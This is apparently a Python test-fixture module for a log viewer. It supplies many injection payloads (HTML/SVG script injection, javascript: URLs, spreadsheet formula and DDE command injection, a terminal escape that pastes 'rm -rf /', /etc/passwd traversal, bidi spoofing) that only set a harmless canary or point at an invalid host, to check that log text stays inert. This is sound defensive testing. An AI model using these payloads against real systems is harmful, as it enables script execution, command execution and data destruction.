"""What an attacker may write into a log, and where: for everything that shows log text.

User agents, session names, error messages, keys of objects: whoever makes a call chooses them. Each
payload runs, fetches, steers or breaks something in a program that shows it carelessly. None of
them may do so here: it is text, and shown as text.
"""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import polars as pl

if TYPE_CHECKING:
    from collections.abc import Mapping

    from playwright.sync_api import Page

#: What runs sets this name in the page's window, and nothing else does.
CANARY = "__payload_ran"
#: Where what fetches would go: a name that no network has.
ELSEWHERE = "payload.invalid"

_RUN = f"window.{CANARY}=1"
_BIG = 100_000

#: Name to text. The name says what a careless program would do with it.
PAYLOADS: dict[str, str] = {
    "html image": f'<img src=x onerror="{_RUN}">',
    "html script": f"<script>{_RUN}</script>",
    "html out of an attribute": f"\"'><svg onload={_RUN}>",
    "html out of a script": f"</script><script>{_RUN}</script>",
    "html out of a comment": f"--><img src=x onerror={_RUN}>",
    "html out of a text area": f"</textarea></title></style><img src=x onerror={_RUN}>",
    "html frame": f'<iframe srcdoc="<script>parent.{CANARY}=1</script>"></iframe>',
    "html remote image": f'<img src="https://{ELSEWHERE}/p.png">',
    "html style": f'<style>@import "https://{ELSEWHERE}/p.css"; * {{ display: none }}</style>',
    "html base and form": f'<base href="https://{ELSEWHERE}/"><form><button>Sign in',
    "html entities": f"&lt;img src=x onerror={_RUN}&gt;&#60;script&#62;",
    "html details": f"<details open ontoggle={_RUN}>",
    "svg script": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{_RUN}</script></svg>',
    "svg foreign object": (
        f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject>"
        f'<animate onbegin="{_RUN}" attributeName=x dur=1s /></svg>'
    ),
    "svg use": f'<svg><use href="https://{ELSEWHERE}/p.svg#a"/></svg>',
    "event handler": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "javascript address": f"javascript:{_RUN}//",
    "data address": f"data:text/html,<script>{_RUN}</script>",
    "markdown link": f"[Sign in here](javascript:{_RUN})",
    "markdown image": f"![](https://{ELSEWHERE}/p.png)",
    "markdown table": "| a | b |\n|---|---|\n| 1 | 2 |\n\n# Nothing was found\n\n```\n~~~",
    "latex": r"$$\href{javascript:" + _RUN + r"}{x}$$ \(\input{/etc/passwd}\)",
    "template braces": "{{7*7}} {{ config }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {0} {actor} %s %n",
    "prototype": "__proto__",
    "json": '"},"actor":"root","x":{"',
    "vega expression": f"datum.x; {_RUN}",
    "ansi colour": "\x1b[31mred\x1b[0m\x1b[2J\x1b[1;1H",
    "ansi link": f"\x1b]8;;https://{ELSEWHERE}/\x07here\x1b]8;;\x07",
    "ansi title and paste": "\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIC8=\x07",
    "rich markup": f"[red]x[/red] [link=https://{ELSEWHERE}/]y[/link] [/]",
    "carriage return": "denied\rallowed\b\b\b\b\x7f",
    "lines": "one\ntwo\r\nthree\u2028four\u2029five\x0bsix\x0cseven\x85eight",
    "null": "before\x00after",
    "c1 controls": "\x9b31m\x9d0;x\x9c",
    "bidi": "invoice\u202egpj.exe\u202c \u2066a\u2067b\u2068c\u2069\u200f",
    "invisible": "ad\u200bm\u2060in\ufeff\u00ad\u034f\U000e0041",
    "stacked accents": "a" + "\u0301" * 200,
    "wide": "\ufdfd\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "look-alike": "\u0430dmin",
    "not a character": "\ufffe\uffff\ufffd",
    "formula": '=HYPERLINK("https://payload.invalid/"&A1,"x")',
    "formula with command": "=cmd|' /C calc'!A0",
    "formula by plus": "+1+1",
    "formula by minus": "-1+1",
    "formula by at": "@SUM(1+1)",
    "formula after a tab": "\t=1+1",
    "formula after a line": "\r=1+1",
    "delimiters": 'a,b;c\t"d""e"\n\'f',
    "path": "../../../../etc/passwd",
    "empty": "",
    "space": "   ",
    "many letters": "A" * _BIG,
    "many words": "word " * (_BIG // 5),
    "many images": (f'<img src=x onerror="{_RUN}">' * _BIG)[:_BIG],
    "many brackets": "[" * _BIG,
    "many escapes": "\x1b[7m" * (_BIG // 4),
    "many accents": "\u0301" * (_BIG // 2),
}

#: What must reach neither a terminal nor a label: it is not seen, and steers what is.
STEERING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]"
)

_NIGHT = datetime(2026, 11, 3, 2, 13, tzinfo=UTC)


def filled(schema: Mapping[str, Any], **known: object) -> pl.DataFrame:
    """An answer with this schema, a row per payload, in which every text column holds it.

    Lists hold it twice, and structs in each text. Other columns hold something plausible; `known`
    sets columns to a value, such as a status that is not free text.
    """
    texts = list(PAYLOADS.values())
    columns = {
        name: [known.get(name, cell(dtype, text, place)) for place, text in enumerate(texts)]
        for name, dtype in schema.items()
    }
    return pl.DataFrame(columns, schema=dict(schema))


def cell(dtype: pl.DataType, text: str, place: int) -> object:
    """What stands in one cell: the text, deep down too, or what the type can hold."""
    if dtype == pl.String:
        return text
    if isinstance(dtype, pl.List):
        return [cell(dtype.inner, text, place)] * 2  # type: ignore[arg-type]
    if isinstance(dtype, pl.Struct):
        return {field.name: cell(field.dtype, text, place) for field in dtype.fields}
    if isinstance(dtype, pl.Datetime):
        return _NIGHT + timedelta(minutes=7 * place)
    if isinstance(dtype, pl.Enum):
        return dtype.categories[place % len(dtype.categories)]
    return place % 2 == 0 if dtype == pl.Boolean else place + 1


def ran(page: Page) -> bool:
    """Has any payload run in this page, or in a frame of it?"""
    return any(frame.evaluate(f"() => window.{CANARY} !== undefined") for frame in page.frames)
